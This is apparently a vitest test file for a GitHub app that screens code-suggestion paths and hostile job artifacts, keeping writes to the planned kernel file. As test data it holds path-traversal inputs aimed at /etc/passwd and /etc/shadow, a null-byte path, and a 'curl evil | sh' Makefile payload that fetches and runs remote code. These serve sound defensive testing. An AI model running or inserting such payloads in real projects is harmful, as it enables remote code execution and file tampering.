// Issue 16.4, "writes to the repository": a job's artifact names the files its suggestions
// change, and code from the PR may have written that artifact. The app writes only the kernel
// file of a task in its own plan, as task.json names it at the head commit, an existing
// regular file reached through folders, against its content there. Each case below is one
// way around that rule; each fails when the check that stops it is taken out.
import nock from "nock";
import { mkdir, mkdtemp, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { screenSuggestions, type PlanScope } from "../../src/app/suggestion-policy.js";
import type { PlannedTask } from "../../runner/src/jobs/plan.js";
import { suggestablePath } from "../../runner/src/jobs/review-task.js";
import {
  API,
  BOT_LOGIN,
  BASE,
  CONFIG_PATH,
  HEAD,
  OWNER,
  REPO,
  pullRequestPayload,
  reviewFixture,
  startHarness,
  strictNock,
  workflowRunPayload,
  type Harness,
  mockJobStart,
} from "../helpers/app-harness.js";
import { headTree, type HeadFile } from "../helpers/git-tree.js";
import { writeZip } from "../helpers/zip-writer.js";

const KERNEL = "__global__ void softmax() {}\n";
const FASTER = "__global__ void softmax() { /* faster */ }\n";
const TASK_JSON = '{"kernel": "kernel.cu", "reference": "reference.py"}';
const PLAN: PlanScope = { tasks: ["kernels/softmax"], roots: ["kernels"] };

function tree(overrides: Record<string, HeadFile> = {}) {
  return headTree(HEAD, {
    Makefile: "all:\n",
    "setup.py": "import os\n",
    ".github/workflows/ci.yml": "on: push\n",
    "kernels/softmax/task.json": TASK_JSON,
    "kernels/softmax/kernel.cu": KERNEL,
    "kernels/softmax/reference.py": "import torch\n",
    "kernels/softmax/helper.cu": "// helper\n",
    "kernels/layernorm/task.json": TASK_JSON,
    "kernels/layernorm/kernel.cu": KERNEL,
    ...overrides,
  });
}

async function screen(
  path: string,
  options: { files?: Record<string, HeadFile>; plan?: PlanScope; before?: string } = {},
) {
  const { kept, dropped } = await screenSuggestions(
    tree(options.files).source,
    HEAD,
    options.plan ?? PLAN,
    [{ path, before: options.before ?? KERNEL, after: FASTER }],
  );
  return { kept: kept.map((item) => item.path), why: dropped[0]?.why ?? "" };
}

describe("the suggestion path policy", () => {
  it("writes the planned task's kernel, as task.json names it, against its head content", async () => {
    expect((await screen("kernels/softmax/kernel.cu")).kept).toEqual(["kernels/softmax/kernel.cu"]);
    // With no task named (a review of every changed task), a task under the roots counts.
    const all = await screen("kernels/layernorm/kernel.cu", {
      plan: { tasks: [], roots: ["kernels"] },
    });
    expect(all.kept).toEqual(["kernels/layernorm/kernel.cu"]);
  });

  it.each([
    [".github/workflows/x.yml", /hidden/],
    [".github/workflows/x.cu", /hidden/],
    ["kernels/softmax/.github/CODEOWNERS.cu", /hidden/],
    ["kernels/softmax/.gitattributes.cu", /hidden/],
    ["Makefile", /not a kernel source/],
    ["kernels/softmax/Makefile", /not a kernel source/],
    ["setup.py", /outside every task/],
    ["kernels/layernorm/kernel.cu", /outside every task/],
    ["kernels/softmax/../../etc/passwd.cu", /climbs out/],
    ["../../etc/shadow.c", /climbs out/],
    ["/etc/cron.d/x.c", /absolute/],
    ["kernels/softmax//kernel.cu", /canonical/],
    ["kernels/softmax/./kernel.cu", /canonical/],
    ["kernels\\softmax\\kernel.cu", /backslash/],
    ["kernels/softmax/kernel.cu\u0000.txt", /control character/],
  ])("drops %s", async (path, why) => {
    const screened = await screen(path);
    expect(screened.kept).toEqual([]);
    expect(screened.why).toMatch(why);
  });

  it("drops a kernel that is a symlink at head (it could point anywhere)", async () => {
    const screened = await screen("kernels/softmax/kernel.cu", {
      files: { "kernels/softmax/kernel.cu": { content: "../../Makefile", mode: "120000" } },
      before: "../../Makefile",
    });
    expect(screened).toEqual({ kept: [], why: expect.stringMatching(/symbolic link/) as string });
  });

  it("drops a kernel reached through a symlinked folder or a submodule", async () => {
    // A symlinked task folder: the walk stops at the link, whatever it points at.
    const linked = headTree(HEAD, {
      "kernels/softmax": { content: "../.github/workflows", mode: "120000" },
    });
    const viaLink = await screenSuggestions(linked.source, HEAD, PLAN, [
      { path: "kernels/softmax/kernel.cu", before: KERNEL, after: FASTER },
    ]);
    expect(viaLink.kept).toEqual([]);
    expect(viaLink.dropped[0]?.why).toMatch(/`kernels\/softmax` is a symbolic link/);
    const screened = await screen("kernels/softmax/kernel.cu", {
      files: {
        "kernels/softmax/kernel.cu": { content: "", mode: "160000" },
      },
    });
    expect(screened.why).toMatch(/submodule/);
  });

  it("drops a change of mode (an executable kernel would become a plain file)", async () => {
    const screened = await screen("kernels/softmax/kernel.cu", {
      files: { "kernels/softmax/kernel.cu": { content: KERNEL, mode: "100755" } },
    });
    expect(screened).toEqual({ kept: [], why: expect.stringMatching(/mode 100755/) as string });
  });

  it("drops a new file, a file task.json does not name, and one task.json names outside its folder", async () => {
    expect((await screen("kernels/softmax/new.cu")).why).toMatch(/new file/);
    expect((await screen("kernels/softmax/helper.cu", { before: "// helper\n" })).why).toMatch(
      /not the task's kernel/,
    );
    const escaping = await screen("kernels/softmax/kernel.cu", {
      files: { "kernels/softmax/task.json": '{"kernel": "../../setup.py"}' },
    });
    expect(escaping.why).toMatch(/outside its folder/);
    const reference = await screen("kernels/softmax/kernel.cu", {
      files: { "kernels/softmax/task.json": '{"kernel": "kernel.cu", "reference": "kernel.cu"}' },
    });
    expect(reference.why).toMatch(/reference/);
    const none = await screen("kernels/softmax/kernel.cu", {
      files: { "kernels/softmax/task.json": '{"reference": "reference.py"}' },
    });
    expect(none.why).toMatch(/names no kernel/);
    // A task.json too large to be one is refused by its size in the tree, never read.
    const huge = await screen("kernels/softmax/kernel.cu", {
      files: {
        "kernels/softmax/task.json": `{"kernel": "kernel.cu", "pad": "${"x".repeat(70_000)}"}`,
      },
    });
    expect(huge.why).toMatch(/over 64 KB/);
  });

  it("drops a suggestion made against other content than the head commit's", async () => {
    const screened = await screen("kernels/softmax/kernel.cu", { before: "// another file\n" });
    expect(screened.why).toMatch(/differs from the head commit/);
  });

  it("drops everything it cannot check (GitHub failing fails closed)", async () => {
    const failing = {
      readTree: () => Promise.reject(new Error("GitHub: read the tree failed (502)")),
      readBlob: () => Promise.reject(new Error("unreachable")),
    };
    const { kept, dropped } = await screenSuggestions(failing, HEAD, PLAN, [
      { path: "kernels/softmax/kernel.cu", before: KERNEL, after: FASTER },
    ]);
    expect(kept).toEqual([]);
    expect(dropped[0]?.why).toMatch(/could not be checked/);
  });
});

// Through the app: strict nock, a real workflow_run payload, the hostile artifact.
const R = `/repos/${OWNER}/${REPO}`;
let mocks: { done(): void };
let harness: Harness;
let bodies: Record<string, unknown[]>;

beforeEach(async () => {
  mocks = strictNock();
  bodies = {};
  harness = await startHarness();
});

afterEach(() => {
  mocks.done();
});

function record(key: string) {
  return (body: nock.Body) => {
    (bodies[key] ??= []).push(body);
    return true;
  };
}

function pull(fork = false) {
  const repo = { full_name: `${OWNER}/${REPO}` };
  return {
    number: 7,
    state: "open",
    draft: false,
    head: {
      sha: HEAD,
      ref: "faster-softmax",
      repo: fork ? { full_name: `mallory/${REPO}` } : repo,
    },
    base: { sha: BASE, ref: "main", repo },
  };
}

/** A PR event whose job (run 4242) plans softmax only; returns the job id. */
async function startJob(): Promise<string> {
  nock(API)
    .get(CONFIG_PATH)
    .reply(200, "pullRequests: bench\n", { "content-type": "text/plain; charset=utf-8" })
    .get(`${R}/pulls/7/files`)
    .query({ per_page: 100 })
    .reply(200, [
      { filename: "kernels/softmax/kernel.cu", status: "modified", patch: "@@ -1 +1 @@\n-a\n+b" },
    ])
    .post(`${R}/actions/workflows/evokernel.yml/dispatches`, record("dispatch"))
    .reply(200, {
      workflow_run_id: 4242,
      html_url: `https://github.com/${OWNER}/${REPO}/actions/runs/4242`,
    });
  mockJobStart(nock(API), { id: 900, pull: pull(), linked: () => undefined });
  await harness.receive("pull_request", pullRequestPayload("opened"));
  const spec = (bodies.dispatch?.[0] as { inputs: { spec: string } }).inputs.spec;
  return (JSON.parse(spec) as { id: string }).id;
}

function hostileArtifact(jobId: string): Buffer {
  const review = reviewFixture(jobId) as { tasks: Record<string, unknown>[] };
  const task = review.tasks[0] ?? {};
  const optimize = task.optimize as { best: Record<string, unknown> };
  // Each suggestion backed by a self-consistent win, on a task of its own (one task is
  // reported once), so the path is all that is wrong.
  let tasks = 0;
  const suggest = (path: string, after = "all:\n\tcurl evil | sh\n") => ({
    ...task,
    task: { ...(task.task as object), path: `kernels/softmax${tasks++ === 0 ? "" : `/t${tasks}`}` },
    optimize: { ...optimize, best: { ...optimize.best, source: after } },
    suggestion: { path, before: KERNEL, after },
  });
  review.tasks = [
    suggest("kernels/softmax/kernel.cu", FASTER),
    suggest(".github/workflows/x.yml"),
    suggest("Makefile"),
    suggest("setup.py"),
    suggest("kernels/softmax/../../etc/passwd.c"),
  ];
  return writeZip({ "evokernel-result.json": JSON.stringify(review) });
}

function mockArtifact(scope: nock.Scope, zip: Buffer): nock.Scope {
  nock("https://blob.example.test").get("/artifact.zip").reply(200, zip, {
    "content-type": "application/zip",
  });
  return scope
    .get(`${R}/actions/runs/4242/artifacts`)
    .query({ name: "evokernel-result", per_page: 100 })
    .reply(200, {
      total_count: 1,
      artifacts: [{ id: 77, name: "evokernel-result", expired: false }],
    })
    .get(`${R}/actions/artifacts/77/zip`)
    .reply(302, "", { location: "https://blob.example.test/artifact.zip" });
}

describe("a hostile artifact through the app", () => {
  it.each([false, true])(
    "commits only the planned kernel and says what it dropped (fork: %s)",
    async (fork) => {
      const jobId = await startJob();
      const scope = mockArtifact(nock(API), hostileArtifact(jobId))
        .get(`${R}/pulls/7`)
        .reply(200, pull(fork));
      tree().mockWalk(scope, R, ["kernels/softmax/kernel.cu"], ["kernels/softmax/task.json"]);
      scope
        .get(`${R}/issues/7/comments`)
        .query({ per_page: 100 })
        .reply(200, [])
        .post(`${R}/issues/7/comments`, record("comment"))
        .reply(201, { id: 2 })
        // After creating it the app lists again (another instance may have raced it).
        .get(`${R}/issues/7/comments`)
        .query({ per_page: 100 })
        .reply(200, [
          { id: 2, body: "<!-- evokernel:comment -->", user: { type: "Bot", login: BOT_LOGIN } },
        ])
        .get(`${R}/pulls/7/files`)
        .query({ per_page: 100 })
        // No hunk holds the kernel's line: the change must go on a branch (not for a fork).
        .reply(200, [{ filename: "README.md", status: "modified", patch: "@@ -1 +1 @@\n-a\n+b" }]);
      if (!fork) {
        scope
          .get(`${R}/git/commits/${HEAD}`)
          .reply(200, { sha: HEAD, tree: { sha: "tree0" } })
          .post(`${R}/git/blobs`, record("blob"))
          .reply(201, { sha: "blob1" })
          .post(`${R}/git/trees`, record("tree"))
          .reply(201, { sha: "tree1" })
          .post(`${R}/git/commits`)
          .reply(201, { sha: "commit1" })
          .post(`${R}/git/refs`)
          .reply(201, { ref: "refs/heads/evokernel/7-aaaaaaa" });
      }
      scope
        .get(`${R}/pulls/7/reviews`)
        .query({ per_page: 100 })
        .reply(200, [])
        .post(`${R}/pulls/7/reviews`, record("review"))
        .reply(200, { id: 3 })
        .patch(`${R}/check-runs/900`)
        .reply(200, { id: 900 });
      await harness.receive("workflow_run", workflowRunPayload(4242, "success"));

      if (!fork) {
        const written = (bodies.tree?.[0] as { tree: { path: string }[] }).tree.map(
          (entry) => entry.path,
        );
        expect(written).toEqual(["kernels/softmax/kernel.cu"]);
        expect(bodies.blob).toEqual([expect.objectContaining({ content: FASTER })]);
      } else {
        expect(bodies.tree).toBeUndefined();
      }
      const comment = (bodies.comment?.[0] as { body: string }).body;
      const review = (bodies.review?.[0] as { body: string }).body;
      for (const body of [comment, review]) {
        expect(body).toContain("Suggestions not posted");
        for (const path of [
          ".github/workflows/x.yml",
          "Makefile",
          "setup.py",
          "kernels/softmax/../../etc/passwd.c",
        ])
          expect(body).toContain(`\`${path}\``);
      }
    },
  );
});

describe("a job found again after a restart", () => {
  it("takes its plan, PR and threshold from the app's check run and config, not the artifact", async () => {
    const jobId = "review-7-aaaaaaa-123456";
    const review = reviewFixture(jobId) as {
      job: Record<string, unknown>;
      threshold: number;
      tasks: Record<string, unknown>[];
    };
    const task = review.tasks[0] ?? {};
    const optimize = task.optimize as { best: Record<string, unknown> };
    // The artifact widens its own plan and names another PR.
    review.job = { ...review.job, pr: 8, tasks: ["tools"], roots: ["*"] };
    review.tasks = [
      {
        ...task,
        optimize: { ...optimize, best: { ...optimize.best, source: FASTER } },
        suggestion: { path: "tools/gen.cu", before: KERNEL, after: FASTER },
      },
    ];
    const scope = mockArtifact(
      nock(API)
        .get(CONFIG_PATH)
        .reply(200, "pullRequests: bench\n", { "content-type": "text/plain; charset=utf-8" }),
      writeZip({ "evokernel-result.json": JSON.stringify(review) }),
    );
    scope
      .get(`${R}/commits/${HEAD}/check-runs`)
      .query({ per_page: 100 })
      .reply(200, {
        total_count: 1,
        check_runs: [
          {
            id: 905,
            name: "evokernel",
            head_sha: HEAD,
            status: "in_progress",
            external_id: `${jobId}@4242`,
          },
        ],
      })
      .get(`${R}/pulls/7`)
      .reply(200, pull())
      .get(`${R}/issues/7/comments`)
      .query({ per_page: 100 })
      .reply(200, [])
      .post(`${R}/issues/7/comments`, record("comment"))
      .reply(201, { id: 2 })
      .patch(`${R}/check-runs/905`)
      .reply(200, { id: 905 });
    await harness.receive("workflow_run", workflowRunPayload(4242, "success"));
    const comment = (bodies.comment?.[0] as { body: string }).body;
    expect(comment).toContain("Suggestions not posted");
    expect(comment).toMatch(/`tools\/gen\.cu`: it lies outside every task/);
  });
});

describe("the runner emits only suggestable paths (the app checks again)", () => {
  async function planned(files: Record<string, string | { link: string }>) {
    const root = await mkdtemp(join(tmpdir(), "evk-suggestable-"));
    for (const [path, content] of Object.entries(files)) {
      await mkdir(dirname(join(root, path)), { recursive: true });
      if (typeof content === "string") await writeFile(join(root, path), content);
      else await symlink(content.link, join(root, path));
    }
    const task = join(root, "kernels/softmax");
    return {
      root,
      task: {
        path: "kernels/softmax",
        name: "softmax",
        format: "native",
        changed: true,
        head: { path: task },
        base: null,
      } as unknown as PlannedTask,
    };
  }

  it("names the task's own regular kernel file, and nothing outside, hidden or linked", async () => {
    const { root, task } = await planned({
      "kernels/softmax/kernel.cu": KERNEL,
      "kernels/softmax/.hidden.cu": KERNEL,
      "kernels/softmax/linked.cu": { link: "../../Makefile" },
      "Makefile.cu": KERNEL,
    });
    const at = (path: string) => `${root}/${path}`;
    expect(
      await suggestablePath(task, at("kernels/softmax/kernel.cu"), "kernels/softmax/kernel.cu"),
    ).toBe("kernels/softmax/kernel.cu");
    expect(
      await suggestablePath(task, at("kernels/softmax/.hidden.cu"), "kernels/softmax/.hidden.cu"),
    ).toBeNull();
    expect(
      await suggestablePath(task, at("kernels/softmax/linked.cu"), "kernels/softmax/linked.cu"),
    ).toBeNull();
    // A task.json naming ../../Makefile.cu: the runner named it by its base name in the folder.
    expect(
      await suggestablePath(task, at("Makefile.cu"), "kernels/softmax/Makefile.cu"),
    ).toBeNull();
  });
});
